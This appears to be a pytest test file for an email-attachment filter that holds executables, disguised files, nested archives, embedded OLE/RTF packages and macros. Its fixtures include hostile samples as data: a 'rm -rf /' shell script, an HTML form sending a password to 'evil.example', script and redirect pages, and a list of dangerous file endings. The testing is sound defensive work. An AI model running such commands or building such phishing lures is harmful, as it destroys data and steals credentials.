"""What does harm in a document is kept back, whatever holds it; macros are marked."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from qibot.documents import endings_held, examined
from qibot.documents.conditions import UNSEEN
from qibot.documents.look import look
from qibot.message import parse
from tests.documents.made import BIG, HELD, mail_with, seen
from tests.support.packed import PDF, PROGRAM, docx, outlook_message, package, winmail, zipped

OLD = b"\xd0\xcf\x11\xe0" + bytes(508)  # the header of Office's old container


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.exe", b"anything"),
        ("report.pdf.exe", PDF),
        ("Report 2.pdf", PROGRAM),
        ("report.docx", b"\x7fELF" + bytes(50)),
        ("report.EXE. ", b"x"),
        ("Report.lnk", b"x"),
        ("report.doc", b"L\0\0\0\x01\x14\x02\0" + bytes(60)),
        ("setup.msi", b"x"),
        ("macro.js", b"alert(1)"),
        ("report.hta", b"x"),
        ("run", b"#!/bin/sh\nrm -rf /\n"),
        ("disk.img", b"x"),
        ("disk.bin", bytes(0x8001) + b"CD001"),
        ("report.html", b"<html><body onload=go()>hi</body></html>"),
        ("report.htm", b"<html><script>1</script></html>"),
        ("invoice.html", b"<html><form action=//evil.example><input name=password></form></html>"),
        ("chart.svg", b'<svg xmlns="x"><script>1</script></svg>'),
        ("Report 2.txt", b"<!DOCTYPE html><html><meta http-equiv='refresh' content='0;url=//x'></html>"),
        ("report.zip", zipped(("Report 2.docx", b"x"), ("start.cmd", b"x"))),
        ("report.zip", zipped(("inner.zip", zipped(("a/b/readme.txt .scr", b"x"))))),
        ("winmail.dat", winmail(("report.vbs", b"x"))),
        ("report.zip", zipped(("report.pdf", PROGRAM))),
        ("report.zip", zipped(("a/report.docx", b"\x7fELF" + bytes(50)))),
        ("report.zip", zipped(("report.pdf", PROGRAM), ("repor2.pdf", PDF)).replace(b"repor2", b"report")),
        ("report.zip", zipped(("notes.txt", b"MZ" + bytes(58) + b"\0\0\x02\0" + bytes(0x1FFC0) + b"PE\0\0"))),
        ("report.zip", zipped(("report.doc", b"L\0\0\0\x01\x14\x02\0" + bytes(60)))),
        ("report.zip", zipped(("disk.bin", bytes(0x8001) + b"CD001"))),
        ("report.zip", zipped(("run", b"#!/bin/sh\nrm -rf /\n"))),
        ("report.zip", zipped(("page.html", b"<script>go()</script>"))),
        ("report.zip", zipped(("page.html", b"<html>" + b" " * 90_000 + b"<script>go()</script>"))),
        ("report.zip", zipped(("Report 2.txt", b"<!DOCTYPE html><html><script>1</script></html>"))),
        ("report.zip", zipped(("fwd.eml", mail_with(("report.exe", b"x"))))),
        ("report.zip", zipped(("fwd.eml", mail_with(("report.pdf", PROGRAM))))),
        ("report.zip", zipped(("fwd.msg", outlook_message(("report.exe", b"x"))))),
        ("report.zip", zipped(("winmail.dat", winmail(("report.exe", b"x"))))),
        ("report.zip", zipped(("inner.zip", zipped(("report.pdf", PROGRAM))))),
        ("fwd.eml", mail_with(("report.zip", zipped(("report.pdf", PROGRAM))))),
        ("report", zipped(("report.pdf", PROGRAM))),
        ("Report.one", b"x"),
        ("report.library-ms", b"x"),
        ("report.slk", b"ID;P"),
        ("report.iqy", b"WEB"),
        ("report.command", b"x"),
        ("report.desktop", b"x"),
        ("report.wim", b"x"),
        ("report.webloc", b"x"),
        ("report.settingcontent-ms", b"x"),
        ("report.appref-ms", b"x"),
        ("fwd.eml", mail_with(("report.js", b"x"))),
        ("fwd.eml", mail_with(("deeper.eml", mail_with(("report.js", b"x"))))),
        ("fwd.msg", outlook_message(("report.scr", b"x"))),
    ],
)
def test_what_does_harm_is_not_passed_on(name: str, data: bytes) -> None:
    assert seen(name, data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("Report 2.docx", docx("We tested it with one nurse.")),
        ("Report 2.pdf", PDF),
        ("Report.exercise.docx", docx("x")),
        ("MZ notes.txt", b"MZ is short for Milngavie Zone"),
        ("script of our video.txt", b"Nurse: on the ward = calm"),
        ("page.html", b"<html><body><p>only words, <a href='https://x.example'>a link</a></p></body></html>"),
        ("chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
        ("all.zip", zipped(("Report 2.docx", b"x"), ("chart.xlsx", b"y"))),
        ("all.zip", zipped(("Report 2.docx", docx("x")), ("chart.pdf", PDF), ("MZ notes.txt", b"MZ is short for"))),
        ("all.zip", zipped(("page.html", b"<html><p>only words</p></html>"), ("fwd.eml", mail_with(("a.pdf", PDF))))),
        ("Report 2.docx", docx("x", ("word/afchunk.htm", b"<html><script>1</script></html>"))),
        ("photo.heic", b"\0\0\0\x18ftypheic" + bytes(40)),
        ("fwd.eml", mail_with(("Report 2.docx", docx("x")))),
        ("winmail.dat", winmail(("Report 2.docx", docx("x")))),
    ],
)
def test_what_is_harmless_is_passed_on(name: str, data: bytes) -> None:
    assert seen(name, data) == ""


def test_an_archive_packed_in_a_way_that_costs_too_much_is_said_to_be_so() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("Report 2.docx", b"x")
    assert look("all.zip", "", made.getvalue(), HELD).state == UNSEEN


def test_the_list_of_what_does_harm_is_configuration() -> None:
    held = endings_held(("xyz",), ("js",))
    assert look("a.xyz", "", b"x", held).harm
    assert not look("a.js", "", b"x", held).harm


def test_macros_are_marked_or_held_as_the_configuration_says() -> None:
    raw = mail_with(("Report 2.docm", docx("words", ("word/vbaProject.bin", b"x"))))
    marked = examined(parse(raw), raw, HELD, "mark")
    assert marked.files[0].macros
    assert not marked.held
    held = examined(parse(raw), raw, HELD, "hold")
    assert not held.files
    assert held.held[0].harm == "holds macros"
    assert not examined(parse(raw), raw, HELD, "pass").files[0].macros


def test_an_old_word_document_with_macros_is_known() -> None:
    assert look("a.doc", "", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le"), HELD).macros


@pytest.mark.parametrize(
    ("name", "data", "macros"),
    [
        ("tally.xlsm", b"x", True),
        ("a/b/tally.xls", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le"), True),
        ("tally.xls", b"\xd0\xcf\x11\xe0" + bytes(600), False),
        ("tally.xlsx", b"x", False),
    ],
)
def test_macros_are_marked_in_an_archive_too(name: str, data: bytes, macros: bool) -> None:
    found = look("all.zip", "", zipped(("Report 2.docx", b"x"), (name, data)), HELD)
    assert not found.harm
    assert found.macros is macros


def test_a_harmful_document_is_held_and_the_others_stay() -> None:
    raw = mail_with(("Report 2.docx", docx("words")), ("help.exe", PROGRAM))
    mail = examined(parse(raw), raw, HELD)
    assert [d.name for d in mail.files] == ["Report 2.docx"]
    assert [d.name for d in mail.held] == ["help.exe"]


def rtf(name: str, content: bytes) -> bytes:
    """As WordPad writes a file that was dragged into a text: its bytes as digits, folded."""
    path = b"C:\\" + name.encode()
    held = b"\x02\0" + name.encode() + b"\0" + path + b"\0\0\0\x03\0" + struct.pack("<I", len(path) + 1)
    held += path + b"\0" + struct.pack("<I", len(content)) + content
    digits = (b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0" + bytes(8) + held).hex()
    folded = "\r\n".join(digits[n : n + 64] for n in range(0, len(digits), 64))
    return b"{\\rtf1\\ansi {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + folded.encode() + b"}}}"


XHTML = b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body>%s</body></html>'
RUNS = XHTML % b"<script>go()</script>"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("fwd.msg", outlook_message(("report.exe", b"x"), deep=1)),
        ("fwd.msg", outlook_message(("report.pdf", PROGRAM), deep=3)),
        ("page.xht", RUNS),
        ("page.xhtml", RUNS),
        ("page.xml", RUNS),
        ("page.txt", RUNS),
        ("page.xml", RUNS.replace(b"<html xmlns", b"<h:html xmlns:h").replace(b"script>", b"h:script>")),
        ("chart.xml", b'<?xml version="1.0"?><!-- a --><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
        ("Report 2.docx", docx("x", ("word/embeddings/oleObject1.bin", package("plan.exe", b"x")))),
        ("Report 2.docx", docx("x", ("word/embeddings/oleObject1.bin", package("plan.pdf", PROGRAM)))),
        ("tally.xlsx", zipped(("xl/embeddings/oleObject1.bin", package("plan.js", b"go()")))),
        ("Report 2.doc", package("plan.scr", b"x")),
        ("all.zip", zipped(("Report 2.docx", docx("x", ("word/embeddings/oleObject1.bin", package("p.exe", b"x")))))),
        ("all.zip", zipped(("Report 2.doc", package("plan.scr", b"x")))),
        ("Report 2.rtf", rtf("plan.exe", b"x")),
        ("Report 2.doc", rtf("plan.pdf", PROGRAM)),
        ("all.zip", zipped(("Report 2.rtf", rtf("plan.exe", b"x")))),
    ],
)
def test_what_does_harm_inside_others_is_not_passed_on(name: str, data: bytes) -> None:
    assert seen(name, data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("fwd.msg", outlook_message(("Report 2.docx", BIG), deep=2)),
        ("page.xhtml", XHTML % b"<p>only words</p>"),
        ("data.xml", b'<?xml version="1.0"?><rows><row script="one"/></rows>'),
        ("Report 2.docx", docx("x", ("word/embeddings/oleObject1.bin", package("chart.pdf", PDF)))),
        ("Report 2.docx", docx("x", ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(600)))),
        ("Report 2.rtf", rtf("chart.pdf", PDF)),
        ("Report 2.rtf", rb"{\rtf1 {\object\objemb{\*\objdata 01050000}}}"),
        ("all.zip", zipped(("Report 2.docx", docx("x", ("word/embeddings/o.bin", package("chart.pdf", PDF)))))),
    ],
)
def test_what_is_harmless_inside_others_is_passed_on(name: str, data: bytes) -> None:
    assert seen(name, data) == ""


@pytest.mark.parametrize(
    ("name", "data", "macros"),
    [
        ("Report 2.odt", zipped(("content.xml", b"<x/>"), ("Basic/Standard/Module1.xml", b"<x/>")), True),
        ("Report 2.odt", zipped(("content.xml", b"<x/>"), ("Scripts/python/go.txt", b"x")), True),
        ("Report 2.odt", zipped(("content.xml", b"<x/>"), ("Basic/script-lc.xml", b"<x/>")), False),
        ("all.zip", zipped(("Report 2.docx", docx("x", ("word/vbaProject.bin", b"x")))), True),
        ("all.zip", zipped(("tally.ods", zipped(("Basic/Standard/M.xml", b"x")))), True),
        ("all.zip", zipped(("Report 2.docx", docx("x")), ("Basic/notes.txt", b"x")), False),
    ],
)
def test_macros_are_marked_wherever_a_program_keeps_them(name: str, data: bytes, macros: bool) -> None:
    assert look(name, "", data, HELD).macros is macros
